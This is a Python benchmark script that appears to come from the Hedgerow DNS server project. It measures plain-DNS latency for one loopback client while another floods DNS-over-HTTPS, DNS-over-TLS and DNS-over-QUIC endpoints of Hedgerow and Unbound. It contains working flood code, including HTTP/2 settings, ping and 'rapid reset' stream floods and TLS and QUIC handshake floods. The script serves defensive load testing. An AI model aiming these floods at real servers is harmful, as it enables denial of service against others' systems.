"""Measure how long a device waits for plain DNS while another one abuses encrypted DNS, beside Unbound.

    .venv/bin/python bench/dns_abuse.py [--seconds 6] [--only settings] [--out FILE]

The worker runs on one core; attacker and victim are processes on the other. The attacker keeps several connections
busy, each as fast as the server reads, and connects again when it is disconnected. The victim asks for a cached name
every 20 milliseconds, over UDP, from another address. Hedgerow's limits are the default ones, but hold for loopback
too.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import multiprocessing
import os
import socket
import ssl
import statistics
import struct
import sys
import tempfile
import time
from collections.abc import Callable, Coroutine, Iterator
from multiprocessing.synchronize import Event
from pathlib import Path
from typing import Any

sys.path.append(str(Path(__file__).parent))  # which Python leaves out where it runs safely
import needs
import dns_sides
import results_file
from aioquic.asyncio.client import connect as connect_quic
from aioquic.quic.configuration import QuicConfiguration
from hpack import Encoder
from hyperframe import frame

import dns
from hedgerow.blocklists.compiler import compile_generation
from hedgerow.blocklists.sources import starter_sources

ATTACKER, VICTIM = "127.0.1.1", "127.0.1.4"
QUERY = bytes.fromhex("000101000001000000000000") + b"\x04host\x07example\x03net\x00\x00\x01\x00\x01"
INTERVAL, PATIENCE = 0.02, 2.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame.SettingsFrame(0).serialize()
CHUNK = 1000  # frames that are written at once


def _resets() -> bytes:
    encoder, pieces = Encoder(), []
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", "dns.example.net"), (":path", "/dns-query")]
    for stream in range(1, 2 * CHUNK, 2):
        pieces.append(
            frame.HeadersFrame(stream, encoder.encode(fields), flags=["END_HEADERS", "END_STREAM"]).serialize()
        )
        pieces.append(frame.RstStreamFrame(stream, error_code=8).serialize())
    return b"".join(pieces)


FRAMES = {
    "settings": frame.SettingsFrame(0, settings={4: 65535}).serialize() * CHUNK,
    "window update": frame.WindowUpdateFrame(0, window_increment=1).serialize() * CHUNK,
    "priority": frame.PriorityFrame(1, stream_weight=3).serialize() * CHUNK,
    "ping": frame.PingFrame(0, opaque_data=b"12345678").serialize() * CHUNK,
    "rapid reset": _resets(),
}


async def _open(port: int, alpn: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return await asyncio.open_connection("127.0.0.1", port, ssl=context, local_addr=(ATTACKER, 0))


async def _flood_stream(port: int, alpn: str, data: bytes, sent: list[int]) -> None:
    """Send on one connection until it is closed. Answers are read, so that the server goes on reading."""
    reader, writer = await _open(port, alpn)

    async def discard() -> None:
        while await reader.read(1 << 16):
            pass

    reading = asyncio.create_task(discard())
    try:
        writer.write(PREFACE if alpn == "h2" else b"")
        while not reading.done() and not writer.transport.is_closing():
            writer.write(data)
            sent[0] += len(data)
            await writer.drain()
            await asyncio.sleep(0)  # else it would not notice that the server has closed
    finally:
        reading.cancel()
        writer.transport.abort()


async def _handshake(port: int, alpn: str, sent: list[int]) -> None:
    _, writer = await _open(port, alpn)
    sent[0] += 1000  # about what a handshake takes
    writer.transport.abort()


async def _quic(port: int, sent: list[int], *, pings: bool) -> None:
    configuration = QuicConfiguration(alpn_protocols=["doq"], verify_mode=ssl.CERT_NONE, server_name="dns.example.net")
    async with connect_quic("127.0.0.1", port, configuration=configuration) as client:
        sent[0] += 1200
        while pings and client._quic._close_event is None:
            client._quic.send_ping(0)
            client.transmit()
            sent[0] += 40
            await asyncio.sleep(0)


async def _attack(kind: str, side: dns_sides.Side, connections: int, seconds: float) -> tuple[int, int]:
    """Return the octets sent and the number of connections opened."""
    sent, opened = [0], [0]
    framed = len(QUERY).to_bytes(2) + QUERY
    kinds: dict[str, Callable[[], Coroutine[Any, Any, None]]] = {
        **{name: lambda data=data: _flood_stream(side.doh, "h2", data, sent) for name, data in FRAMES.items()},  # type: ignore[misc]
        "DoT queries": lambda: _flood_stream(side.dot, "dot", framed * CHUNK, sent),
        "TLS handshakes": lambda: _handshake(side.dot, "dot", sent),
        "QUIC handshakes": lambda: _quic(side.doq, sent, pings=False),
        "QUIC pings": lambda: _quic(side.doq, sent, pings=True),
    }

    async def repeat() -> None:
        while True:
            opened[0] += 1
            try:
                async with asyncio.timeout(5):
                    await kinds[kind]()
            except (OSError, TimeoutError, EOFError):
                await asyncio.sleep(0.001)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*(repeat() for _ in range(connections)))
    return sent[0], opened[0]


def attack(kind: str, side: dns_sides.Side, connections: int, seconds: float, out: Any) -> None:
    os.nice(5)  # the victim shares its core
    asyncio.run(_quiet(_attack(kind, side, connections, seconds), out))


async def _quiet(work: Coroutine[Any, Any, tuple[int, int]], out: Any) -> None:
    asyncio.get_running_loop().set_exception_handler(lambda *_: None)
    out.send(await work)


def ask(port: int, done: Event, out: Any) -> None:
    """Ask at intervals until `done`. Send the seconds of each answer, PATIENCE for none."""
    times: list[float] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((VICTIM, 0))
        sock.connect(("127.0.0.1", port))
        number = 0
        while not done.is_set():
            number += 1
            began = time.perf_counter()
            sock.send(struct.pack("!H", number & 0xFFFF) + QUERY[2:])
            took = _wait(sock, number & 0xFFFF, began)
            times.append(took)
            time.sleep(max(INTERVAL - took, 0))
    out.send(times)


def _wait(sock: socket.socket, number: int, began: float) -> float:
    while (left := PATIENCE - (time.perf_counter() - began)) > 0:
        sock.settimeout(left)
        with contextlib.suppress(OSError):
            if sock.recv(4096)[:2] == struct.pack("!H", number):
                return time.perf_counter() - began
    return PATIENCE


def measure(side: dns_sides.Side, kind: str, connections: int, seconds: float) -> str:
    """Return a row of the table."""
    spawn = multiprocessing.get_context("fork")
    done, (mine, theirs), (sent_mine, sent_theirs) = spawn.Event(), spawn.Pipe(), spawn.Pipe()
    victim = spawn.Process(target=ask, args=(side.port, done, theirs), daemon=True)
    victim.start()
    before = dns.private_megabytes(side)
    octets = opened = 0
    if kind != "none":
        attacker = spawn.Process(target=attack, args=(kind, side, connections, seconds, sent_theirs), daemon=True)
        attacker.start()
        if sent_mine.poll(seconds + 20):
            octets, opened = sent_mine.recv()
        attacker.kill()
        attacker.join()
    else:
        time.sleep(seconds)
    done.set()
    times = mine.recv()
    victim.join()
    lost = sum(took >= PATIENCE for took in times)
    quantiles = statistics.quantiles(times, n=100) if len(times) > 1 else times * 99
    after = dns.private_megabytes(side)
    return (
        f"| {side.name} | {kind} | {octets / seconds / 1e6:.1f} MB/s, {opened / seconds:.0f} | {len(times)} | {lost} |"
        f" {quantiles[49] * 1000:.1f} ms | {quantiles[98] * 1000:.1f} ms | {max(times) * 1000:.0f} ms | {before:.0f} →"
        f" {after:.0f} MB |"
    )


@contextlib.contextmanager
def sides(stand: dns_sides.Stand) -> Iterator[list[dns_sides.Side]]:
    with (
        dns_sides.hedgerow(stand, encrypted=True, limited=True) as ours,
        dns_sides.unbound(stand) as theirs,
    ):
        yield [ours, theirs]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0] if __doc__ else "")
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--only", action="append")
    parser.add_argument("--out", type=Path)
    options = parser.parse_args()
    needs.programs("unbound", "dnsmasq", "openssl")
    kinds = options.only or ["none", *FRAMES, "DoT queries", "TLS handshakes", "QUIC handshakes", "QUIC pings"]
    lines = [
        "# Plain DNS of one device while another abuses encrypted DNS",
        "",
        (
            f"By `bench/dns_abuse.py`: {options.connections} connections at once for {options.seconds:g} seconds per"
            " attack, one worker."
        ),
        "",
        "| server | attack | sent, connections per second | queries | lost | median | p99 | longest | private memory |",
        "|---|---|---|---|---|---|---|---|---|",
    ]
    print(*lines[4:], sep="\n")
    with tempfile.TemporaryDirectory() as place, contextlib.ExitStack() as stack:
        folder = Path(place)
        compile_generation(starter_sources(), folder / "generation")
        stand = dns_sides.Stand(folder, (), stack.enter_context(dns_sides.upstream()))
        for side in stack.enter_context(sides(stand)):
            for kind in kinds:
                if kind.startswith("QUIC") and not side.doq:
                    continue
                lines.append(measure(side, kind, options.connections, options.seconds))
                print(lines[-1], flush=True)
    if options.out:
        results_file.write(options.out, "\n".join(lines))


if __name__ == "__main__":
    main()
